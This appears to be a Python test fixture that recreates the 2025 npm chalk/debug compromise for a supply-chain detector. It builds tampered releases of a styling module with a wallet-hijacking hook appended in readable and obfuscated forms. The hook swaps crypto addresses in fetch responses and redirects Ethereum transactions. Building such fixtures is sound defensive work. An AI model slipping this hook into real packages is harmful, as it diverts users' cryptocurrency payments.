"""chalk, debug and sixteen others, 2025: a hook in the browser that replaces wallets' addresses.

Their maintainer was phished. At the top of each main file stood one obfuscated line: where there
was a `window`, it replaced fetch and XMLHttpRequest, looked for addresses of six currencies in
every answer and put the most similar one from its own list there, and changed what was sent to
`window.ethereum` before it was signed. Here the lists hold no address of anybody.

Post-mortem: "npm debug and chalk packages compromised" (Aikido, 2025-09-08).
In the staged tarball: a line of obfuscated code in files that had only readable ones, with a table
of texts and names like `_0x4f2a`; in it fetch, XMLHttpRequest and ethereum are put in place anew.
"""

import random

from tests.findings.attack import Attack, release

_SOURCE = """\
const styles = new Map([
  ['bold', [1, 22]],
  ['dim', [2, 22]],
  ['red', [31, 39]],
  ['green', [32, 39]],
  ['blue', [34, 39]],
]);

const paint = (name) => (text) => {
  const [open, close] = styles.get(name);
  return `\\u001B[${open}m${text}\\u001B[${close}m`;
};

module.exports = Object.fromEntries([...styles.keys()].map((name) => [name, paint(name)]));
"""
_NEXT = _SOURCE.replace("  ['dim', [2, 22]],\n", "  ['dim', [2, 22]],\n  ['italic', [3, 23]],\n")
_HOOK = """\

let neth = 0;
let run = 0;
const mine = ['0x' + '0'.repeat(40), '0x' + 'e'.repeat(40)];

function nearest(found, list) {
  return list.slice().sort((a, b) => distance(found, a) - distance(found, b))[0];
}
function distance(a, b) {
  let n = 0;
  for (let i = 0; i < a.length; i++) n += a[i] === b[i] ? 0 : 1;
  return n;
}
function rewrite(text) {
  return text.replace(/\\b0x[a-fA-F0-9]{40}\\b/g, (found) => nearest(found, mine));
}
if (typeof window !== 'undefined' && typeof window.ethereum !== 'undefined') {<<<wallet-hook>>>
  const request = window.ethereum.request;
  window.ethereum.request = async function (ask) {
    if (ask.method === 'eth_sendTransaction') ask.params[0].to = mine[0];
    return request.call(this, ask);
  };
}
if (typeof fetch !== 'undefined') {
  const original = fetch;
  globalThis.fetch = async function (...args) {
    const answer = await original(...args);
    return new Response(rewrite(await answer.clone().text()), answer);
  };
}
if (typeof XMLHttpRequest !== 'undefined') {
  const open = XMLHttpRequest.prototype.open;
  XMLHttpRequest.prototype.open = function (method, url, ...more) {
    this.addEventListener('readystatechange', () => { run = run + 1; });
    return open.call(this, method, url, ...more);
  };
}
"""


def _obfuscated() -> str:
    """One line in the manner of the common obfuscator: a table that is turned until a sum fits,
    and every name and text an index into it."""
    pick = random.Random(2025)
    words = [
        *("ethereum", "request", "prototype", "open", "send", "responseText", "fetch", "clone"),
        *("text", "eth_sendTransaction", "params", "method", "apply", "push", "shift", "length"),
        *(pick.randbytes(6).hex() for _ in range(60)),
    ]
    table = ",".join(f"'{word}'" for word in words)
    lists = ",".join(f"'0x{pick.randbytes(2).hex() * 10}'" for _ in range(30))
    calls = "".join(
        f"function _0x{pick.randrange(0x100000, 0xFFFFFF):x}(_0x1a2b3c,_0x4d5e6f)"
        f"{{const _0x22{n:02x}aa=_0x19ca67;return _0x1a2b3c[_0x22{n:02x}aa(0x{300 + n:x})]"
        f"(_0x4d5e6f,-0x{pick.randrange(4096):x}+0x{pick.randrange(4096):x}*0x1);}}"
        for n in range(40)
    )
    return (
        "const _0x112fa9=_0x180f;(function(_0x13c8ba,_0x35f660){const _0x15b387=_0x180f,"
        "_0x66ea25=_0x13c8ba();while(!![]){try{const _0x2cc99f=parseInt(_0x15b387(0x18f))/0x1+"
        "-parseInt(_0x15b387(0x190))/0x2;if(_0x2cc99f===_0x35f660)break;else _0x66ea25['push']("
        "_0x66ea25['shift']());}catch(_0x1c2d){_0x66ea25['push'](_0x66ea25['shift']());}}}"
        f"(_0xa1b2,0x2ab3c));function _0xa1b2(){{const _0x5f=[{table}];_0xa1b2=function()"
        "{return _0x5f;};return _0xa1b2();}function _0x180f(_0x1,_0x2){const _0x3=_0xa1b2();"
        "return _0x180f=function(_0x4,_0x5){_0x4=_0x4-0x12c;return _0x3[_0x4];},_0x180f(_0x1,_0x2)"
        f";}}const _0x19ca67=_0x112fa9;var _0x5dd1=[{lists}];{calls}"
        "if(typeof window!=='undefined'&&typeof window[_0x19ca67(0x12c)]!=='undefined')"
        "{const _0x3ec3bb=window[_0x19ca67(0x12c)];_0x3ec3bb[_0x19ca67(0x12d)]=async function("
        "_0x46){_0x46[_0x19ca67(0x136)][0x0]['to']=_0x5dd1[0x0];return _0x46;};}"
        "if(typeof fetch!=='undefined'){const _0x1de=fetch;fetch=async function(..._0x4a){return "
        "_0x1de(..._0x4a);};}XMLHttpRequest[_0x19ca67(0x12e)][_0x19ca67(0x12f)]=function(_0x7){"
        "return _0x7;};<<<obfuscated>>>"
    )


ATTACK = Attack(
    before=release("chalk-line", "5.6.0", {"index.js": _SOURCE}),
    unharmed=release("chalk-line", "5.6.1", {"index.js": _NEXT}),
    after={
        "obfuscated": release("chalk-line", "5.6.1", {"index.js": _obfuscated() + "\n" + _NEXT}),
        "readable": release("chalk-line", "5.6.1", {"index.js": _NEXT + _HOOK}),
    },
)
